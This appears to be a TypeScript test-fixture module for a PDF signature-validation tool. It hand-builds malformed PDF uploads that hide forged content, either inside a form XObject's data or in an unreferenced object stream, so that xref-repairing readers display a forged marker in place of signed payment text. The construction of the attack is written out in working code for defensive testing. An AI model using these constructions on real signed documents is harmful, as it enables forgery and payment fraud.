import { FORGED_MARKER } from './content-change.js';
import { openPdf } from './raw.js';

/**
 * Hand-written uploads and byte-level revisions for the table-repair attacks: files our writer and
 * appendRaw would never produce (no object 1, a spare object stream, tables spelled as a reader repairs).
 */
const SIGNED_TEXT = 'Signed: pay 10 EUR';
const original = `BT /F1 24 Tf 60 500 Td (${SIGNED_TEXT}) Tj ET`;
const forged = `BT /F1 24 Tf 60 500 Td (${FORGED_MARKER}) Tj ET`;

/** `num 0 obj` holding a content stream, as a reader's rebuilding scan would take it. */
function contentDefinition(num: number, text: string, eol = '\n'): string {
  return `${num} 0 obj${eol}<< /Length ${text.length} >>${eol}stream\n${text}\nendstream${eol}endobj${eol}`;
}

/** A classic-xref PDF of the given objects (any numbers; the table gets one subsection per run). */
function handPdf(objects: readonly (readonly [number, string])[], trailer: string): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets = new Map<number, number>();
  for (const [num, body] of objects) {
    offsets.set(num, out.length);
    out += `${num} 0 obj\n${body}\nendobj\n`;
  }
  const xrefAt = out.length;
  const nums = [...offsets.keys()].sort((a, b) => a - b);
  let table = 'xref\n0 1\n0000000000 65535 f \n';
  for (let i = 0; i < nums.length; ) {
    let j = i;
    while (j + 1 < nums.length && nums[j + 1] === nums[j]! + 1) j++;
    table += `${nums[i]} ${j - i + 1}\n`;
    for (let k = i; k <= j; k++) table += `${String(offsets.get(nums[k]!)).padStart(10, '0')} 00000 n \n`;
    i = j + 1;
  }
  out += `${table}trailer\n${trailer}\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/**
 * An upload with no object 1, whose page content is object 5, and an image-like stream (object 6,
 * referenced from the page's resources but never drawn) whose data holds a definition of object 5
 * drawing FORGED_MARKER: stream content to every strict reader, an object to a rebuilding scan.
 */
export function uploadWithoutObjectOne(): Buffer {
  const hidden = contentDefinition(5, forged);
  const carrier = `\n${hidden}\n`;
  return handPdf([
    [2, '<< /Type /Catalog /Pages 7 0 R >>'],
    [3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'],
    [4, '<< /Type /Page /Parent 7 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /Im0 6 0 R >> >> /Contents 5 0 R >>'],
    [5, `<< /Length ${original.length} >>\nstream\n${original}\nendstream`],
    [6, `<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length ${carrier.length} >>\nstream\n${carrier}\nendstream`],
    [7, '<< /Type /Pages /Kids [4 0 R] /Count 1 >>'],
  ], '<< /Size 8 /Root 2 0 R >>');
}

/** The objects `nums` of `pdf` rewritten unchanged (byte copies of their current definitions). */
export function identicalCopies(pdf: Buffer, nums: readonly number[]): Map<number, string> {
  const file = openPdf(pdf);
  const out = new Map<number, string>();
  for (const num of nums) {
    const e = file.entry(num);
    if (e?.type !== 'offset') throw new Error(`object ${num} is not at an offset`);
    const text = pdf.toString('latin1', e.offset);
    const end = text.indexOf('endobj');
    out.set(num, text.slice(0, end + 6));
  }
  return out;
}

/** Appends raw text and a startxref pointing at `xrefAt` (relative to the appended text). */
export function appendText(pdf: Buffer, build: (at: number, prev: number) => { text: string; xrefAt: number }): Buffer {
  const prev = openPdf(pdf).sections[0]!.offset;
  const sep = pdf[pdf.length - 1] === 0x0a ? '' : '\n';
  const { text, xrefAt } = build(pdf.length + sep.length, prev);
  return Buffer.concat([pdf, Buffer.from(`${sep}${text}startxref\n${pdf.length + sep.length + xrefAt}\n%%EOF\n`, 'latin1')]);
}

/**
 * An upload whose object 8 is an object stream no cross-reference entry points into, holding a
 * definition of the page (object 4) that draws object 9, a content stream drawing FORGED_MARKER.
 * A strict reader never looks inside it; a repairing reader that lists object streams' contents may.
 */
export function uploadWithSpareObjectStream(): Buffer {
  const page = '<< /Type /Page /Parent 7 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 9 0 R >>';
  const head = '4 0 ';
  const stm = head + page;
  return handPdf([
    [2, '<< /Type /Catalog /Pages 7 0 R >>'],
    [3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'],
    [4, '<< /Type /Page /Parent 7 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>'],
    [5, `<< /Length ${original.length} >>\nstream\n${original}\nendstream`],
    [7, '<< /Type /Pages /Kids [4 0 R] /Count 1 >>'],
    [8, `<< /Type /ObjStm /N 1 /First ${head.length} /Length ${stm.length} >>\nstream\n${stm}\nendstream`],
    [9, `<< /Length ${forged.length} >>\nstream\n${forged}\nendstream`],
  ], '<< /Size 10 /Root 2 0 R >>');
}
